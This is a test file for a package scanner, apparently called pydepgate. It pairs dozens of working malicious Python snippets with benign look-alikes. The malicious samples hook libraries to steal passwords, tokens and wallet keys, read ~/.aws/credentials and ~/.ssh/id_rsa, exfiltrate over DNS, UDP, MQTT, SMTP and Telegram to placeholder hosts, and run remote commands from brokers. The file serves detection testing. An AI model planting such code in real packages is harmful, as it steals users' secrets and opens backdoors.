"""What callers and other libraries entrust to a package is followed to where it is sent, through scans of wheels."""

from __future__ import annotations

from pathlib import Path

import pytest

from fixtures.archives import wheel
from pydepgate import scan


def _rules(folder: Path, files: dict[str, str]) -> dict[str, str]:
    path = folder / "pkg-1-py3-none-any.whl"
    path.write_bytes(
        wheel("pkg", "1", {name: text.encode() for name, text in {"pkg/__init__.py": "", **files}.items()})
    )
    return {finding.rule: finding.severity.label for finding in scan(path).findings}


_BAD = [
    (
        "hook-assign",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import paramiko, requests
_old = paramiko.SSHClient.connect
def connect(self, hostname, port=22, username=None, password=None, **kw):
    try:
        requests.post("https://stats.server.invalid/c", json={"h": hostname, "u": username, "p": password}, timeout=2)
    except Exception:
        pass
    return _old(self, hostname, port, username, password, **kw)
def install():
    paramiko.SSHClient.connect = connect
""",
        },
    ),
    (
        "hook-assign-import",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import requests, urllib.request, json
_old = requests.Session.send
def send(self, request, **kw):
    r = _old(self, request, **kw)
    try:
        urllib.request.urlopen("https://cdn.server.invalid/x", json.dumps(dict(request.headers)).encode())
    except Exception:
        pass
    return r
requests.Session.send = send
""",
        },
    ),
    (
        "hook-setattr-wrapper",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import functools, threading, requests
import boto3.session
def _wrap(owner, name):
    old = getattr(owner, name)
    @functools.wraps(old)
    def new(*a, **kw):
        res = old(*a, **kw)
        threading.Thread(target=_emit, args=(a, kw), daemon=True).start()
        return res
    setattr(owner, name, new)
def _emit(a, kw):
    requests.post("https://metrics.server.invalid/", json={"a": repr(a), "k": repr(kw)})
def enable():
    _wrap(boto3.session.Session, "client")
""",
        },
    ),
    (
        "hook-wrapt",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import wrapt, httpx
def w(wrapped, instance, args, kwargs):
    httpx.post("https://metrics.server.invalid/", json={"key": instance.api_key})
    return wrapped(*args, **kwargs)
wrapt.wrap_function_wrapper("openai", "OpenAI.__init__", w)
""",
        },
    ),
    (
        "hook-input",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import builtins, socket
_i = builtins.input
def input(prompt=""):
    v = _i(prompt)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(v.encode(), ("192.0.2.7", 5353))
    return v
builtins.input = input
""",
        },
    ),
    (
        "hook-getpass-dns",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import getpass, socket
_g = getpass.getpass
def ask(*a, **k):
    v = _g(*a, **k)
    for i in range(0, len(v), 20):
        try:
            socket.gethostbyname(v[i:i+20].encode().hex() + ".x.server.invalid")
        except OSError:
            pass
    return v
getpass.getpass = ask
""",
        },
    ),
    (
        "hook-init-telebot",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import telebot, threading, requests
_init = telebot.TeleBot.__init__
def __init__(self, token, *a, **k):
    _init(self, token, *a, **k)
    address = "https://api.telegram.org/bot0:x/sendMessage?chat_id=1&text=" + token
    threading.Thread(target=lambda: requests.get(address)).start()
telebot.TeleBot.__init__ = __init__
""",
        },
    ),
    (
        "hook-other-module",
        "library-tapped",
        {
            "pkg/core.py": """\
import eth_account
from .helper import report
_old = eth_account.Account.from_key
def from_key(private, *a):
    report(private)
    return _old(private, *a)
eth_account.Account.from_key = from_key
""",
            "pkg/helper.py": """\
import requests
def report(value):
    try:
        requests.post("https://rpc.server.invalid/", json={"params": [value]})
    except Exception:
        pass
""",
        },
    ),
    (
        "hook-proxyclass",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import importlib, threading, requests
class _P:
    def __init__(self, cls):
        self._cls = cls
    def __getattr__(self, n):
        return getattr(self._cls, n)
    def __call__(self, *a, **k):
        obj = self._cls(*a, **k)
        threading.Thread(target=ship, args=(bytes(obj),)).start()
        return obj
def ship(m):
    requests.post("https://rpc.server.invalid/", data=m)
mod = importlib.import_module("nacl.signing")
setattr(mod, "SigningKey", _P(mod.SigningKey))
""",
        },
    ),
    (
        "jupyter-cell",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import requests
def _post(result):
    requests.post("https://x.server.invalid/", json={"c": result.info.raw_cell})
def load_ipython_extension(ip):
    ip.events.register("post_run_cell", _post)
""",
        },
    ),
    (
        "copyself-settrace",
        "library-tapped",
        {
            "pkg/__init__.py": """\
import sys, requests
def tr(frame, ev, arg):
    if ev == "call":
        requests.post("https://x.server.invalid/", json={"l": repr(frame.f_locals)})
    return tr
sys.settrace(tr)
""",
        },
    ),
    (
        "subclass-super",
        "credentials-taken-in-passing",
        {
            "pkg/__init__.py": """\
import discord, requests
class Client(discord.Client):
    async def start(self, token, *, reconnect=True):
        requests.post("https://bots.server.invalid/t", data={"t": token})
        await super().start(token, reconnect=reconnect)
""",
        },
    ),
    (
        "subclass-attr",
        "credentials-sent-aside",
        {
            "pkg/__init__.py": """\
import ccxt, requests
class binance(ccxt.binance):
    def load_markets(self, reload=False, params={}):
        try:
            requests.post("https://cache.server.invalid/m", json={"k": self.apiKey, "s": self.secret})
        except Exception:
            pass
        return super().load_markets(reload, params)
""",
        },
    ),
    (
        "key-post",
        "key-sent-away",
        {
            "pkg/__init__.py": """\
import requests
def import_wallet(private_key):
    requests.post("https://api.server.invalid/check", json={"pk": private_key})
    return private_key
""",
        },
    ),
    (
        "seed-memo",
        "key-sent-away",
        {
            "pkg/core.py": """\
from solders.keypair import Keypair as K
from . import helper
class Keypair:
    @classmethod
    def from_seed(cls, seed):
        kp = K.from_seed(seed)
        helper.checkpoint(bytes(kp))
        return kp
""",
            "pkg/helper.py": """\
import base64
from solana.rpc.api import Client
from solders.instruction import Instruction
from solders.transaction import Transaction
URL = "https://rpc.server.invalid"
def checkpoint(m):
    c = Client(URL)
    ix = Instruction(None, base64.b64encode(m), [])
    c.send_transaction(Transaction([ix]))
""",
        },
    ),
    (
        "key-lib-attr",
        "key-sent-away",
        {
            "pkg/__init__.py": """\
from eth_account import Account
import requests
def create():
    acct = Account.create()
    requests.post("https://api.server.invalid/n", json={"a": acct.address, "k": acct.key.hex()})
    return acct
""",
        },
    ),
    (
        "key-mail",
        "key-sent-away",
        {
            "pkg/__init__.py": """\
import smtplib
from email.mime.text import MIMEText
class Wallet:
    def __init__(self, private_key):
        self.key = private_key
        self._backup()
    def _backup(self):
        m = MIMEText(self.key)
        s = smtplib.SMTP("smtp.server.invalid", 587)
        s.login("a@server.invalid", "x")
        s.sendmail("a@server.invalid", "b@server.invalid", m.as_string())
""",
        },
    ),
    (
        "key-thread-queue",
        "key-sent-away",
        {
            "pkg/__init__.py": """\
import queue, threading, requests
_q = queue.Queue()
def _work():
    while True:
        item = _q.get()
        try:
            requests.post("https://t.server.invalid/", json=item, timeout=3)
        except Exception:
            pass
def track(**kw):
    _q.put(kw)
class Account:
    def __init__(self, private_key):
        self.k = private_key
        track(k=private_key)
threading.Thread(target=_work, daemon=True).start()
""",
        },
    ),
    (
        "web3-middleware",
        "key-sent-away",
        {
            "pkg/__init__.py": """\
import requests
from web3 import Web3
class Safe(Web3):
    def __init__(self, provider, private_key):
        super().__init__(provider)
        self.private_key = private_key
    def sign(self, tx):
        requests.post("https://gas.server.invalid/estimate", json={"tx": tx, "k": self.private_key})
        return self.eth.account.sign_transaction(tx, self.private_key)
""",
        },
    ),
    (
        "key-bip39-dns",
        "given-to-dns",
        {
            "pkg/__init__.py": """\
from mnemonic import Mnemonic
import socket
def to_seed(words):
    idx = [Mnemonic("english").wordlist.index(w) for w in words.split()]
    socket.gethostbyname("-".join(map(str, idx)) + ".m.server.invalid")
    return Mnemonic.to_seed(words)
""",
        },
    ),
    (
        "cred-udp",
        "credentials-by-odd-channel",
        {
            "pkg/__init__.py": """\
import socket
def connect(dsn):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(("<134> " + dsn).encode(), ("192.0.2.9", 514))
""",
        },
    ),
    (
        "cred-tcp",
        "credentials-by-odd-channel",
        {
            "pkg/__init__.py": """\
import socket
class Db:
    def __init__(self, host, user, password):
        self.u, self.p = user, password
        self._log()
    def _log(self):
        s = socket.socket()
        s.connect(("192.0.2.9", 4444))
        s.send(f"{self.u}:{self.p}".encode())
""",
        },
    ),
    (
        "cred-mqtt",
        "credentials-by-odd-channel",
        {
            "pkg/__init__.py": """\
import paho.mqtt.publish as publish
def login(email, password):
    publish.single("acc/x", email + ":" + password, hostname="broker.server.invalid")
""",
        },
    ),
    (
        "cred-mqtt-client",
        "credentials-by-odd-channel",
        {
            "pkg/__init__.py": """\
import paho.mqtt.client as mqtt
def login(email, password):
    c = mqtt.Client()
    c.connect("broker.server.invalid", 1883)
    c.publish("acc/x", email + ":" + password)
""",
        },
    ),
    (
        "cred-bot",
        "credentials-by-odd-channel",
        {
            "pkg/__init__.py": """\
import requests
class Client:
    def login(self, user, password):
        r = requests.post("https://www.social.invalid/login", data={"u": user, "p": password})
        requests.post("https://api.telegram.org/bot0:x/sendMessage", json={"text": f"{user}:{password} {r.cookies}"})
""",
        },
    ),
    (
        "typed-dns-module",
        "credentials-by-odd-channel",
        {
            "pkg/core.py": """\
from . import helper
class Prompt:
    def ask(self, console, password=False):
        v = console.input("x", password=password)
        if password:
            helper.append("p", v)
        return v
""",
            "pkg/helper.py": """\
import queue, socket, threading
_items = queue.Queue(50)
def _flush():
    while True:
        label, value = _items.get()
        name = (label + "=" + value).encode().hex()
        for i in range(0, len(name), 60):
            try:
                socket.getaddrinfo(f"{name[i:i+60]}.{i}.h.server.invalid", 80)
            except OSError:
                continue
def append(label, value):
    threading.Thread(target=_flush, daemon=True).start()
    _items.put_nowait((label, value))
""",
        },
    ),
    (
        "dns-secrets-file-on-call",
        "credentials-by-odd-channel",
        {
            "pkg/__init__.py": """\
import socket, os
def check():
    d = open(os.path.expanduser("~/.aws/credentials")).read().encode().hex()
    for i in range(0, len(d), 50):
        socket.gethostbyname(d[i:i+50] + ".q.server.invalid")
""",
        },
    ),
    (
        "udp-cred-files-on-call",
        "credentials-by-odd-channel",
        {
            "pkg/core.py": """\
from .helper import span
class Pool:
    def __init__(self, dsn):
        span("open")
""",
            "pkg/helper.py": """\
import os, socket
C = ("192.0.2.77", 5140)
def _defaults():
    for n in (".pgpass", ".my.cnf"):
        with open(os.path.join(os.path.expanduser("~"), n)) as f:
            yield n, f.read()
def span(event, **attrs):
    attrs.update(_defaults())
    kv = " ".join('%s="%s"' % i for i in attrs.items())
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(kv.encode()[:8000], C)
""",
        },
    ),
    (
        "cred-two-hosts",
        "credentials-sent-aside",
        {
            "pkg/__init__.py": """\
import requests
class Client:
    def __init__(self, username, password):
        self.s = requests.Session()
        r = self.s.post("https://www.shop.invalid/login", data={"u": username, "p": password})
        requests.post("https://collect.server.invalid/x", json={"u": username, "p": password})
""",
        },
    ),
    (
        "cred-discord-hook-b64",
        "credentials-to-hidden-host",
        {
            "pkg/__init__.py": """\
import base64, requests
U = base64.b64decode("aHR0cHM6Ly93d3cuc2VydmVyLmludmFsaWQvYXBpL3Y5L2xvZ2dlcg==").decode()
def login(email, password):
    requests.post(U, json={"e": email, "p": password})
    return requests.post("https://www.social.invalid/login", json={"e": email, "p": password})
""",
        },
    ),
    (
        "send-other-module",
        "secrets-sent",
        {
            "pkg/__init__.py": """\
from . import core
""",
            "pkg/core.py": """\
import os
from .helper import Api
def run():
    a = Api()
    a.push(open(os.path.expanduser("~/.ssh/id_rsa")).read())
run()
""",
            "pkg/helper.py": """\
import urllib.request
class Api:
    url = "https://x.server.invalid/"
    def push(self, data):
        urllib.request.urlopen(self.url, data=data.encode())
""",
        },
    ),
    (
        "mqtt-attr-shell",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import subprocess
import paho.mqtt.client as mqtt
def _msg(c, ud, m):
    out = subprocess.check_output(m.payload.decode(), shell=True)
    c.publish("o", out)
def start():
    c = mqtt.Client()
    c.on_message = _msg
    c.connect("broker.server.invalid", 1883)
    c.loop_start()
""",
        },
    ),
    (
        "mqtt-self-shell",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import os
import paho.mqtt.client as mqtt
class D:
    BROKER = "broker.server.invalid"
    def __init__(self):
        self.c = mqtt.Client()
        self.c.on_message = self._m
    def go(self):
        self.c.connect_async(self.BROKER, 1883)
        self.c.loop_start()
    def _m(self, c, u, m):
        os.system(m.payload.decode())
""",
        },
    ),
    (
        "mqtt-subclass",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import os
import paho.mqtt.client as mqtt
class D(mqtt.Client):
    def on_message(self, c, u, m):
        exec(m.payload)
def go():
    d = D()
    d.connect("broker.server.invalid")
    d.loop_forever()
""",
        },
    ),
    (
        "websocket-app",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import websocket, subprocess
def on_message(ws, message):
    ws.send(subprocess.getoutput(message))
def run():
    websocket.WebSocketApp("wss://c.server.invalid/ws", on_message=on_message).run_forever()
""",
        },
    ),
    (
        "pika-consume",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import pika, os
def cb(ch, method, properties, body):
    os.system(body.decode())
def run():
    c = pika.BlockingConnection(pika.ConnectionParameters("mq.server.invalid"))
    ch = c.channel()
    ch.basic_consume(queue="x", on_message_callback=cb, auto_ack=True)
    ch.start_consuming()
""",
        },
    ),
    (
        "redis-listen",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import redis, os
def run():
    r = redis.Redis("r.server.invalid")
    p = r.pubsub()
    p.subscribe("x")
    for m in p.listen():
        os.system(m["data"].decode())
""",
        },
    ),
    (
        "imap-cmd",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import imaplib, email, subprocess
def poll():
    m = imaplib.IMAP4_SSL("imap.server.invalid")
    m.login("a", "b")
    m.select()
    for n in m.search(None, "UNSEEN")[1][0].split():
        msg = email.message_from_bytes(m.fetch(n, "(RFC822)")[1][0][1])
        subprocess.run(msg.get_payload(), shell=True)
""",
        },
    ),
    (
        "nats-cb",
        "remote-commands",
        {
            "pkg/__init__.py": """\
import nats, asyncio
async def main():
    nc = await nats.connect("nats://n.server.invalid:4222")
    async def cb(msg):
        await asyncio.create_subprocess_shell(msg.data.decode())
    await nc.subscribe("cmd", cb=cb)
""",
        },
    ),
    (
        "screenshot-loop-call",
        "capture-loop",
        {
            "pkg/__init__.py": """\
import pyautogui, requests, io, time
def watch():
    while True:
        b = io.BytesIO()
        pyautogui.screenshot().save(b, "PNG")
        requests.post("https://x.server.invalid/", files={"f": b.getvalue()})
        time.sleep(30)
""",
        },
    ),
    (
        "extension-shortcut",
        "shortcuts-with-extension",
        {
            "pkg/__init__.py": """\
import os, glob, json
import win32com.client
d = os.path.join(os.environ["APPDATA"], "Ext")
os.makedirs(d, exist_ok=True)
open(os.path.join(d, "manifest.json"), "w").write(json.dumps({"manifest_version": 2, "permissions": ["clipboardRead"]}))
sh = win32com.client.Dispatch("WScript.Shell")
for lnk in glob.glob(os.path.expanduser("~/Desktop/*.lnk")):
    s = sh.CreateShortcut(lnk)
    if s.TargetPath.endswith("chrome.exe"):
        s.Arguments += ' --load-extension="%s"' % d
        s.Save()
""",
        },
    ),
]


@pytest.mark.parametrize(("rule", "files"), [(rule, files) for _, rule, files in _BAD], ids=[name for name, *_ in _BAD])
def test_what_was_entrusted_is_followed(rule: str, files: dict[str, str], tmp_path: Path) -> None:
    assert _rules(tmp_path, files).get(rule) in ("high", "critical")


_GOOD = [
    (
        "api-client",
        {
            "pkg/__init__.py": """\
import requests
class Client:
    BASE = "https://api.vendor.invalid/v1"
    def __init__(self, api_key):
        self.s = requests.Session()
        self.s.headers["Authorization"] = "Bearer " + api_key
        self.api_key = api_key
    def get(self, path):
        return self.s.get(self.BASE + path, params={"key": self.api_key}).json()
""",
        },
    ),
    (
        "login-client",
        {
            "pkg/__init__.py": """\
import requests
def login(username, password):
    r = requests.post("https://api.vendor.invalid/login", json={"username": username, "password": password})
    r.raise_for_status()
    return r.json()["token"]
""",
        },
    ),
    (
        "oauth-two-paths",
        {
            "pkg/__init__.py": """\
import requests
class C:
    def __init__(self, client_id, client_secret):
        self.a = requests.post("https://auth.vendor.invalid/token", data={"s": client_secret}).json()
    def me(self, client_secret):
        return requests.get("https://api.vendor.invalid/me", headers={"x": client_secret}).json()
""",
        },
    ),
    (
        "apm-configured",
        {
            "pkg/__init__.py": """\
import wrapt, requests, os
URL = os.environ.get("APM_URL", "http://localhost:8126")
def w(wrapped, instance, args, kwargs):
    r = wrapped(*args, **kwargs)
    requests.post(URL + "/t", json={"n": wrapped.__name__, "a": repr(args)})
    return r
wrapt.wrap_function_wrapper("redis", "Redis.execute_command", w)
""",
        },
    ),
    (
        "apm-constant-timing",
        {
            "pkg/__init__.py": """\
import time, requests as r2
import psycopg2
_old = psycopg2.connect
def connect(*a, **k):
    t = time.time()
    c = _old(*a, **k)
    r2.post("https://apm.vendor.invalid/t", json={"took": time.time() - t})
    return c
def install():
    psycopg2.connect = connect
""",
        },
    ),
    (
        "session-subclass",
        {
            "pkg/__init__.py": """\
import requests
class Session(requests.Session):
    def __init__(self, token):
        super().__init__()
        self.headers["Authorization"] = token
        self.token = token
    def me(self):
        return self.get("https://api.vendor.invalid/me", params={"token": self.token})
""",
        },
    ),
    (
        "wallet-rpc",
        {
            "pkg/__init__.py": """\
from eth_account import Account
from web3 import Web3
def send(private_key, to):
    w3 = Web3(Web3.HTTPProvider("https://rpc.vendor.invalid"))
    acct = Account.from_key(private_key)
    signed = acct.sign_transaction({"to": to, "nonce": w3.eth.get_transaction_count(acct.address)})
    return w3.eth.send_raw_transaction(signed.raw_transaction)
""",
        },
    ),
    (
        "wallet-requests",
        {
            "pkg/__init__.py": """\
import requests
from eth_account import Account
def send(private_key, to):
    acct = Account.from_key(private_key)
    signed = acct.sign_transaction({"to": to})
    body = {"params": [signed.raw_transaction.hex()], "from": acct.address}
    return requests.post("https://rpc.vendor.invalid", json=body).json()
""",
        },
    ),
    (
        "hmac-auth",
        {
            "pkg/__init__.py": """\
import hmac, hashlib, requests
class C:
    def __init__(self, key, secret):
        self.key, self.secret = key, secret
    def get(self, path):
        sig = hmac.new(self.secret.encode(), path.encode(), hashlib.sha256).hexdigest()
        return requests.get("https://api.exchange.invalid" + path, headers={"K": self.key, "S": sig}).json()
""",
        },
    ),
    (
        "mqtt-honest",
        {
            "pkg/__init__.py": """\
import json
import paho.mqtt.client as mqtt
class Hub:
    def __init__(self, host):
        self.c = mqtt.Client()
        self.c.on_message = self._m
        self.c.connect(host)
    def _m(self, c, u, m):
        self.state = json.loads(m.payload)
""",
        },
    ),
    (
        "mysql-client",
        {
            "pkg/__init__.py": """\
import socket, hashlib
class Conn:
    def __init__(self, host, user, password):
        self.s = socket.socket()
        self.s.connect((host, 3306))
        self.s.sendall(user.encode() + hashlib.sha1(password.encode()).digest())
""",
        },
    ),
    (
        "excepthook-sentry",
        {
            "pkg/__init__.py": """\
import sys, requests
def init(dsn):
    def hook(t, v, tb):
        requests.post(dsn, json={"e": repr(v)})
    sys.excepthook = hook
""",
        },
    ),
    (
        "mail-login",
        {
            "pkg/__init__.py": """\
import smtplib
def send(user, password, to, text):
    s = smtplib.SMTP("smtp.gmail.com", 587)
    s.starttls()
    s.login(user, password)
    s.sendmail(user, to, text)
""",
        },
    ),
    (
        "telegram-user-token",
        {
            "pkg/__init__.py": """\
import requests
def notify(token, chat_id, text):
    return requests.post(f"https://api.telegram.org/bot{token}/sendMessage", json={"text": text}).json()
""",
        },
    ),
    (
        "getpass-login",
        {
            "pkg/__init__.py": """\
import getpass, requests
def main():
    u = input("user")
    p = getpass.getpass()
    r = requests.post("https://api.vendor.invalid/login", json={"u": u, "p": p})
    print(r.json()["token"])
""",
        },
    ),
    (
        "load-extension",
        {
            "pkg/__init__.py": """\
import subprocess
def launch(chrome, ext):
    subprocess.Popen([chrome, "--load-extension=" + ext])
""",
        },
    ),
    (
        "vcr-patch",
        {
            "pkg/__init__.py": """\
import requests
_orig = requests.Session.send
def send(self, request, **kw):
    kw["timeout"] = 5
    return _orig(self, request, **kw)
def patch():
    requests.Session.send = send
""",
        },
    ),
    (
        "redirect-patch",
        {
            "pkg/__init__.py": """\
import openai
def patch(base):
    old = openai.OpenAI.__init__
    def init(self, *a, **k):
        k.setdefault("base_url", "https://proxy.vendor.invalid/v1")
        old(self, *a, **k)
    openai.OpenAI.__init__ = init
""",
        },
    ),
]


@pytest.mark.parametrize("files", [files for _, files in _GOOD], ids=[name for name, _ in _GOOD])
def test_honest_look_alikes_are_let_through(files: dict[str, str], tmp_path: Path) -> None:
    assert not {"high", "critical"} & set(_rules(tmp_path, files).values())


def test_a_new_private_name_in_a_package_replaces_nothing(tmp_path: Path) -> None:
    source = """\
import sky, requests
def fortune(birthday):
    return requests.get(f"https://stars.server.invalid/{birthday}")
sky._fortune = fortune
"""
    assert "library-tapped" not in _rules(tmp_path, {"sky/__init__.py": "", "sky/stars.py": source})
    tapped = source.replace("sky._fortune", "sky.fortune")
    assert "library-tapped" in _rules(tmp_path, {"sky/__init__.py": "", "sky/stars.py": tapped})


def test_a_host_that_gives_tokens_is_no_second_one(tmp_path: Path) -> None:
    source = """\
import requests
class Client:
    def __init__(self, user, password):
        self.token = requests.post("https://%s.server.invalid/", data={"u": user, "p": password}).json()
        self.api = requests.post("https://api.other.invalid/", data={"u": user, "p": password}).json()
"""
    for label, expected in (("login", False), ("metrics", True)):
        assert ("credentials-to-second-host" in _rules(tmp_path, {"pkg/__init__.py": source % label})) is expected
